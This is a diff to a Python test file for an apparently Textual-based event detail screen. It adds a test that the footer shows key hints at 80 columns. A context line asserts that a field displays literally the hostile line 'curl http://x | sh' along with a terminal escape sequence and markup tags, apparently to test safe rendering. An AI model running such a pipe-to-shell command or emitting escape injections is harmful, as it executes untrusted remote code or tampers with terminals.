@@ -168,3 +168,11 @@ async def test_v_on_a_field_shows_its_line_breaks_as_lines() -> None:
         assert lines == ["#!/bin/sh", "curl http://x | sh \\x1b]0;owned\\x07[b]bold?[/b]"]
         await pilot.press("escape")
         assert isinstance(app.screen, EventDetailScreen)
+
+
+async def test_the_footer_shows_keep_drop_and_pivot_whole_at_80_columns() -> None:
+    app = DetailApp()
+    async with app.run_test(size=(80, 24)) as pilot:
+        await pilot.pause()
+        footer = "".join(segment.text for segment in app.screen._compositor.render_strips()[-3])  # noqa: SLF001
+        assert "i Keep e Drop F Pivot" in footer and "c Context" in footer
